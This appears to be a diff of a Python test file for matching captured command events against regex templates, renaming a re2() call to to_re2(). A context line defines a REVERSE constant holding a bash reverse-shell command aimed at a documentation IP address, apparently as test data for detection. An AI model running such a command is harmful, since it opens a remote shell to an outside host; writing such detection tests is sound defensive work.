@@ -91,7 +91,7 @@ def test_an_example_of_a_template_matches_it(capture: EventTable, context: Tunin
     seen = {(event.binary or "", event.arguments or "") for event in map(capture.event, range(0, 21300, 7))}
     for binary, arguments in seen:
         pattern = commands.template(binary, arguments)
-        assert re2.search(pattern.re2(), example(pattern))
+        assert re2.search(pattern.to_re2(), example(pattern))
 
 
 REVERSE = '-c "bash -i >& /dev/tcp/198.51.100.66/4445 0>&1"'
